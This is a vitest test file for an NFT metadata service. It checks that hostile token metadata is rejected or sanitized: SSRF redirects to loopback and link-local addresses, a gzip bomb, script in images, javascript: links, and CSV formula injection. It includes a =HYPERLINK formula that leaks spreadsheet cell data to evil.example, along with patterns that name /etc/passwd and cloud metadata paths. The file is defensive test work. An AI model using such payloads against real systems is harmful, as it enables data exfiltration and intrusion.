import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { type HostileToken, hostileTokens } from "../../../demo/chapters/hostile-tokens.ts";
import { createDatabase } from "../../../runtime/database/database.ts";
import { readMetadataStatus } from "../../../runtime/domains/nft-metadata/queries/status.ts";
import { useApp } from "../../support/app.ts";
import { createCommandRunner } from "../../support/commands/command-line.ts";
import { parseCsv } from "../../support/csv.ts";
import { createCaller } from "../caller.ts";

const app = await useApp();
const call = createCaller(app.url, app.key);
const collection = app.storyValues.hostileCollection ?? "";

interface Data {
  readonly token_id: string;
  readonly external_data: {
    readonly name: string | null;
    readonly description: string | null;
    readonly image: string | null;
    readonly animation_url: string | null;
    readonly external_url: string | null;
    readonly attributes: readonly { readonly trait_type: string | null; readonly value: string | null }[] | null;
  } | null;
  readonly metadata_refusal: string | null;
  readonly asset_cached: boolean;
}

const read = async (): Promise<(HostileToken & Data)[]> => {
  const { body, text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000`);
  const { data } = body as { readonly data: { readonly items: readonly { readonly nft_data: Data }[] } | null };
  if (data === null) throw new Error(`Reading the metadata of ${collection} failed: ${text}`);
  return data.items.map(({ nft_data: data }) => ({ ...(hostileTokens[Number(data.token_id) - 1] as HostileToken), ...data }));
};
const tokens = await read();
const tokenOf = (kind: string) => tokens.find((token) => token.kind === kind);

/** Tokens with rejected documents, each with a pattern for the reported reason. */
const rejected: readonly (readonly [kind: string, reason: RegExp])[] = [
  ["huge", /too large/],
  // The timeout of 3 s, less the time already spent.
  ["slow", /within (3000|2\d{3}) ms/],
  ["redirect-to-loopback", /http/],
  ["redirect-to-link-local", /http|169\.254/],
  ["redirect-loop", /redirect/],
  ["compressed-bomb", /gzip/],
  ["deeply-nested", /nesting|large/],
  ["page", /text\/html/],
  ["broken", /500/],
  ["missing", /404/],
  ["path-out-of-the-folder", /path|folder|ipfs/i],
  ["link-local", /http/],
  ["loopback", /address/],
  ["loopback-by-name", /local/],
  ["loopback-as-number", /http/],
  ["loopback-in-ipv6", /http/],
  ["file", /file/],
  ["page-as-document", /text\/html/],
  ["invalid-base64", /base64/],
  ["cut-off", /JSON/],
  ["no-object", /JSON object/],
  ["empty", /./],
  ["long", /characters/],
  ["reverting", /./],
  ["endless", /./],
  ["no-text", /./],
];

/** Tokens with documents served without their harmful parts, each with a pattern for the reported reason. */
const sanitized: readonly (readonly [kind: string, reason: RegExp])[] = [
  ["many-attributes", /attributes/],
  ["script-in-picture", /image/],
  ["script-in-plain-picture", /image/],
  ["javascript-links", /image.*animation_url.*external_url/],
];

describe("tokens with hostile metadata", () => {
  it("are all listed, each with a document or the reason why it was rejected", () => {
    expect(tokens.map(({ token_id: id }) => Number(id))).toEqual(hostileTokens.map((_, index) => index + 1));
    expect(tokens.filter((token) => token.external_data === null && token.metadata_refusal === null)).toEqual([]);
  });

  it.each(rejected)("are served without a document, but with the reason: %s", (kind, reason) => {
    const token = tokenOf(kind);
    expect(token?.external_data, token?.metadata_refusal ?? "").toBeNull();
    expect(token?.asset_cached).toBe(false);
    expect(token?.metadata_refusal).toMatch(reason);
    // The reason must not contain local paths or addresses.
    expect(token?.metadata_refusal).not.toMatch(/node_modules|\.ts\b|private\.json|latest\/meta-data|etc\/passwd/);
  });

  it.each(sanitized)("are served without their harmful parts, with a reason that lists them: %s", (kind, reason) => {
    const token = tokenOf(kind);
    expect(token?.external_data).not.toBeNull();
    expect(token?.metadata_refusal).toMatch(reason);
    expect(JSON.stringify(token?.external_data)).not.toMatch(/<script|javascript:|onload|foreignObject|text\/html/i);
  });

  it("do not affect the harmless tokens between them", () => {
    const harmless = tokens.filter(({ kind }) => kind === "harmless");
    expect(harmless.length).toBeGreaterThan(10);
    harmless.forEach((token, index) => {
      expect(token.external_data?.name).toBe(`Sheep ${index + 1}`);
      expect(token.external_data?.attributes).toEqual([{ trait_type: "Wool", value: ["Thick", "Thin"][(index + 1) % 2] }]);
      expect([token.asset_cached, token.metadata_refusal]).toEqual([true, null]);
    });
  });

  it("contain no control characters, bidirectional marks or lone surrogates", () => {
    for (const { external_data: data, kind } of tokens) {
      const texts = [data?.name, data?.description, ...(data?.attributes ?? []).flatMap(({ trait_type, value }) => [trait_type, value])];
      for (const text of texts) expect(text ?? "", kind).not.toMatch(/(?![\n\t])\p{Cc}|\p{Bidi_Control}|\p{Surrogate}/u);
    }
    const names = tokenOf("names-of-other-types")?.external_data;
    expect([names?.image, names?.external_url, names?.animation_url]).toEqual([null, null, null]);
    const absurd = tokenOf("absurd-attributes")?.external_data?.attributes;
    expect(absurd).toContainEqual({ trait_type: "__proto__", value: "constructor" });
    expect(absurd).toContainEqual({ trait_type: "Number", value: "123456789012345678901234567890" });
  });

  it("are escaped in CSV, so spreadsheets do not evaluate formulas", async () => {
    expect(tokenOf("formula")?.external_data?.name).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
    const { text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000&format=csv`);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(
      parseCsv(text)
        .flat()
        .filter((cell) => /^\s*[=+@-]/.test(cell)),
    ).toEqual([]);
  });

  it("cause no connection to the local address that they point to", async () => {
    expect(await (await fetch(app.trapUrl)).text()).toBe("0");
  });

  it("are counted with their reasons by ashlar nfts status", async () => {
    const database = createDatabase({ url: app.databaseUrl, poolSize: 1, statementTimeoutMilliseconds: 0, applicationName: "ashlar-test" });
    try {
      const collections = await readMetadataStatus(database, 31337);
      const status = collections.find(({ token }) => token === collection);
      const withoutDocument = tokens.filter(({ external_data: data }) => data === null);
      expect([status?.pending, status?.fetched, status?.rejected]).toEqual([
        0,
        tokens.length - withoutDocument.length,
        withoutDocument.length,
      ]);
      const counts = new Map<string, number>();
      for (const { metadata_refusal: reason } of withoutDocument) counts.set(reason ?? "", (counts.get(reason ?? "") ?? 0) + 1);
      expect(new Map(status?.refusals.map(({ reason, tokens: count }) => [reason, count]))).toEqual(
        new Map([...counts].map(([reason, count]) => [reason.slice(0, 200), count])),
      );
    } finally {
      await database.close();
    }
    const folder = await mkdtemp(join(tmpdir(), "ashlar-status-"));
    try {
      await writeFile(join(folder, "ashlar.yaml"), "chains: [{ name: demo, id: 31337 }]\n");
      const [code, output] = await createCommandRunner(() => ({ folder, url: app.databaseUrl })).runToExit(["nfts", "status"]);
      expect(code, output).toBe(0);
      const refusals = tokens.filter(({ external_data: data }) => data === null).length;
      expect(output).toMatch(new RegExp(`${collection}  0 pending .*${refusals} rejected`));
      expect(output).toContain("rejected: ");
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  });
});
